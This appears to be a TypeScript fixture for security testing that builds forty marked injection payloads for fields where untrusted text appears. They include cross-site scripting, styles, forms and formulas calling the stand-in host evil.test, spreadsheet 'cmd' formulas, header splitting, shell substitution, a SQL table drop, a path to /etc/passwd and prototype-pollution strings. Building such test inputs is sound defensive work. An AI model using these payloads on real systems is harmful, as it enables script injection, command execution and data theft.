// What a hostile agent says in place of every name, version and sentence. Each carries its own mark, so that a text found on a page
// tells which one it was; only the one that must be exactly `__proto__` has none.

export interface Payload {
  readonly name: string;
  readonly text: string;
}

const LONG = 1_500;

const SHAPES: readonly (readonly [string, (mark: string) => string])[] = [
  ["a script", (m) => `<script>alert("${m}")</script>`],
  ["an image with a handler", (m) => `<img src="/${m}" onerror="alert(1)">`],
  ["svg with a handler", (m) => `<svg onload=alert("${m}")>`],
  ["a script inside svg", (m) => `<svg><script>alert("${m}")//`],
  ["a frame with a document of its own", (m) => `<iframe srcdoc="<script>alert('${m}')</script>">`],
  ["a frame that runs its address", (m) => `<iframe src="javascript:alert('${m}')">`],
  ["a handler without a click", (m) => `<details open ontoggle=alert('${m}')>x`],
  ["a style that fetches", (m) => `<style>@import"//evil.test/${m}";</style>`],
  ["a foreign style sheet", (m) => `<link rel=stylesheet href=//evil.test/${m}>`],
  ["a redirect", (m) => `<meta http-equiv=refresh content="0;url=/${m}">`],
  ["another base", (m) => `<base href="//evil.test/${m}/">`],
  ["a form", (m) => `<form action=//evil.test/${m}><button>Sign in</button>`],
  ["out of a double-quoted attribute", (m) => `" onmouseover="alert('${m}')" x="`],
  ["out of a single-quoted attribute", (m) => `' autofocus onfocus='alert("${m}")' x='`],
  ["out of every element", (m) => `--></title></textarea></style></script><img src=/${m}>`],
  ["markup that mutates", (m) => `<math><mtext><mglyph><style><img src=/${m} onerror=alert(1)>`],
  ["a script address", (m) => `javascript:alert('${m}')`],
  ["a data address", (m) => `data:text/html,<script>alert('${m}')</script>`],
  ["a script address with a tab in it", (m) => `java\tscript:alert('${m}')`],
  ["entities", (m) => `&lt;img src=/${m}&gt; &#60;b&#62; &amp;amp;`],
  ["escaped markup", (m) => `\\u003cimg src=/${m}\\u003e \\x3cb\\x3e`],
  ["a place for another value", (m) => `{{${m}}} {{name}} {{- model}} {{count}}`],
  ["a translation inside", (m) => `$t(common:showAll) ${m} $t(showAll, {"a":1})`],
  ["replacement patterns", (m) => `$& $1 $\` $' ${m} $$ $<name>`],
  ["a template that runs", (m) => `{{constructor.constructor('alert(1)')()}} ${m}`],
  ["templates of other languages", (m) => `\${alert('${m}')} #{7*7} <%= 7*7 %>`],
  ["the name of the prototype", () => "__proto__"],
  ["a formula", (m) => `=HYPERLINK("http://evil.test/${m}","x")`],
  ["a formula that begins with at", (m) => `@SUM(1+1)*cmd|'/C ${m}'!A0`],
  ["a formula that begins with plus", (m) => `+1-1+cmd|'/C ${m}'!A0`],
  ["a formula that begins with minus", (m) => `-2+3+cmd|'/C ${m}'!A0`],
  ["formulas behind separators", (m) => `${m},=1+1;=2+2\t@SUM(1);+3;-4`],
  ["lines of a header", (m) => `${m}\r\nSet-Cookie: a=b\r\n\r\n=1+1`],
  ["the end of a JSON text", (m) => `"}],"${m}":[{"a":"\\`],
  ["formats, a shell and SQL", (m) => `%s%n $(${m}) \`id\` ');drop table x;--`],
  ["a path upwards", (m) => `../../../etc/passwd%00 ..\\..\\${m}`],
  ["text that turns around or is not seen", (m) => `${m}\u202egnp.exe\u2066 a\u200bb\ufeff`],
  ["control characters and joined ones", (m) => `${m}\u0007\u001b[31m\u009b\u2028 \u{1f469}\u200d\u{1f467} e\u0301\u0301\u0301`],
  ["a NUL", (m) => `${m}\0hidden`],
  ["a very long text", (m) => `${m} ${"<b>".repeat(LONG / 3)}`],
];

/** Forty payloads, in a fixed order. */
export const PAYLOADS: readonly Payload[] = SHAPES.map(([name, write], index) => ({
  name,
  text: write(`hz${String(index + 1).padStart(2, "0")}`),
}));

/** The payload at this place, counted round and round. */
export const payloadAt = (index: number): string => (PAYLOADS[index % PAYLOADS.length] as Payload).text;
